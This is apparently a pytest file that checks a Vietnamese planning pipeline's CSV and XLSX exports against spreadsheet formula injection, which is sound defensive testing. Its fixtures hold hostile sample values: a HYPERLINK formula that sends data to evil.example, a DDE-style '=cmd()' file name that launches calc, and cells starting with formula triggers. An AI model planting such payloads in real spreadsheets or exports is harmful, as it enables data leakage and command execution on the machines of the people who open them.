"""No export cell is a formula: CSV and XLSX of the web app and of the CLI, over a stored plan
whose sentences, names and file name begin with = + - @ (OWASP's CSV-injection triggers)."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from pipeline import exports, records, store
from pipeline.cli import app as cli
from pipeline.web import create_app

HYPERLINK = '=HYPERLINK("http://evil.example/?leak=1","Nguồn")'
FILE_NAME = "=cmd()|' \\c calc'!A0.txt"
LOCALITY = "@Tổng(1+1)"
TEXT = (f"{HYPERLINK} 95% hộ nghèo sử dụng nước sinh hoạt hợp vệ sinh.\n"
        "-0,5% hộ nghèo mỗi năm.\n"
        "+Phòng Lao động - TB&XH chủ trì rà soát hộ nghèo.\n"
        "\tBáo cáo trước ngày 15/12/2024.\n")


def _grounded(quote: str) -> records.Grounding:
    start = TEXT.index(quote)
    return records.Grounding(page=1, char_start=start, char_end=start + len(quote), quote=quote)


@pytest.fixture
def db_url(tmp_path, monkeypatch) -> str:
    """A store holding one hostile plan (and a plain neighbour to compare it with)."""
    url = f"sqlite:///{tmp_path / 'plans.db'}"
    monkeypatch.setenv("PLANS_DB_URL", url)
    engine = store.get_engine(url)
    water = _grounded(TEXT.split("\n")[0])
    reduction = _grounded("-0,5% hộ nghèo mỗi năm.")
    targets = [
        records.TargetRecord("domestic_water", "water_sanitation", "=hộ nghèo", "=", 95.0, None,
                             None, "%", "2024", None, water),
        records.TargetRecord("poverty_reduction", None, "hộ nghèo", "=", -0.5, None, None,
                             "-%", "-2024", "+Thôn 1", reduction),
    ]
    task = _grounded("+Phòng Lao động - TB&XH chủ trì rà soát hộ nghèo.")
    responsibilities = [records.ResponsibilityRecord("+Phòng Lao động - TB&XH", "LDTBXH", "lead",
                                                     "=rà soát hộ nghèo", ["@Dự án 1"], task)]
    due = _grounded("\tBáo cáo trước ngày 15/12/2024.")
    deadlines = [records.DeadlineRecord("by_date", date(2024, 12, 15), "-2024", None,
                                        "-UBND", "\tBáo cáo", due)]
    facts = records.DocumentFacts(doc_type="=Kế hoạch", number="+12/KH-UBND", admin_level="xã",
                                  locality=LOCALITY, district="-Huyện", province="@Tỉnh",
                                  signer="=Nguyễn Văn A", title=HYPERLINK)
    finding = records.Finding(kind="weaker_than_district", severity="warning",
                              message="=1+1 chỉ tiêu thấp hơn", groundings=[water])
    page = records.Page(number=1, text=TEXT, raw_text=TEXT, source="plain")
    store.save_document(engine, sha256="a" * 64, file_name=FILE_NAME, pages=[page],
                        extraction=records.Extraction(facts=facts, targets=targets,
                                                      responsibilities=responsibilities,
                                                      deadlines=deadlines),
                        findings=[finding])
    plain = "100% hộ nghèo sử dụng nước sinh hoạt hợp vệ sinh."
    store.save_document(
        engine, sha256="b" * 64, file_name="ke-hoach-an-binh.txt",
        pages=[records.Page(number=1, text=plain, raw_text=plain, source="plain")],
        extraction=records.Extraction(
            facts=records.DocumentFacts(admin_level="xã", locality="An Bình"),
            targets=[records.TargetRecord("domestic_water", "water_sanitation", "hộ nghèo", "=",
                                          100.0, None, None, "%", "2024", None,
                                          records.Grounding(1, 0, len(plain), plain))]),
        findings=[])
    return url


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def check_csv(text: str) -> list[list[str]]:
    """Every cell is a number or begins with no formula trigger; returns the rows."""
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert len(rows) >= 2
    for row in rows:
        for cell in row:
            assert _is_number(cell) or not cell.startswith(exports.FORMULA_TRIGGERS), cell
    return rows


def check_xlsx(data: bytes) -> list:
    """No cell of any sheet is a formula; returns every cell with a value."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row
             if c.value is not None]
    formulas = [(c.parent.title, c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert not formulas
    return cells


def test_safe_cell_neutralises_the_triggers_and_leaves_numbers():
    for text in ("=1+1", "+1", "-x", "@SUM(A1)", "\tx", "\rx", "=", "\0x"):
        assert exports.safe_cell(text) == "'" + text
    for value in (-0.5, 3, 0.0, "Phấn đấu", "", None, "1=1"):
        assert exports.safe_cell(value) == value


def test_web_exports_hold_no_formula(db_url):
    engine = store.get_engine(db_url, readonly=True)
    with TestClient(create_app(engine), base_url="http://127.0.0.1") as client:
        csv_text = client.get("/targets/export.csv").content.decode("utf-8-sig")
        rows = check_csv(csv_text)
        flat = [cell for row in rows for cell in row]
        assert any(cell.startswith("'" + HYPERLINK) for cell in flat)
        assert "'" + FILE_NAME in flat and "'=" in flat
        assert ",-0.5," in csv_text  # a number stays a bare number
        cells = check_xlsx(client.get("/targets/export.xlsx").content)
        texts = {c.value: c for c in cells if isinstance(c.value, str)}
        assert texts[TEXT.split("\n")[0]].quotePrefix and texts[FILE_NAME].quotePrefix
        assert texts["="].data_type == "s" and texts["="].quotePrefix
        assert any(c.value == -0.5 and c.data_type == "n" for c in cells)
        compare = [("locality", LOCALITY), ("locality", "An Bình"),
                   ("dimension", "water_sanitation")]
        rows = check_csv(client.get("/compare/export.csv", params=compare)
                         .content.decode("utf-8-sig"))
        assert "'" + LOCALITY in [cell for row in rows for cell in row]
        response = client.get("/compare/export.xlsx", params=compare)
        cells = check_xlsx(response.content)
        book = openpyxl.load_workbook(io.BytesIO(response.content))
        notes = book["Nguồn"]
        assert notes.max_row >= 3  # the quotes are there, as text, and linked
        note_texts = [c.value for row in notes.iter_rows() for c in row]
        assert TEXT.split("\n")[0] in note_texts and FILE_NAME in note_texts
        linked = [c for c in cells if c.hyperlink is not None]
        assert linked and all(c.data_type != "f" for c in linked)


@pytest.mark.parametrize("command", [
    ["documents"], ["targets"], ["responsibilities"], ["deadlines"], ["findings"],
    ["compare", "--indicator", "domestic_water"], ["compare"],
])
def test_cli_csv_holds_no_formula(db_url, command):
    result = CliRunner().invoke(cli, [*command, "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = check_csv(result.stdout)
    flat = " ".join(cell for row in rows for cell in row)
    assert "'=" in flat or "'@" in flat or "'+" in flat


def test_cli_compare_files_hold_no_formula(db_url, tmp_path):
    for args in (["--indicator", "domestic_water"], []):
        out_csv, out_xlsx = tmp_path / "so-sanh.csv", tmp_path / "so-sanh.xlsx"
        for fmt, out in (("csv", out_csv), ("xlsx", out_xlsx)):
            result = CliRunner().invoke(cli, ["compare", *args, "--format", fmt, "--out",
                                              str(out)])
            assert result.exit_code == 0, result.output
        rows = check_csv(out_csv.read_text(encoding="utf-8-sig"))
        assert any(cell.startswith("'") for row in rows for cell in row)
        cells = check_xlsx(out_xlsx.read_bytes())
        assert any(c.value == LOCALITY and c.quotePrefix for c in cells)
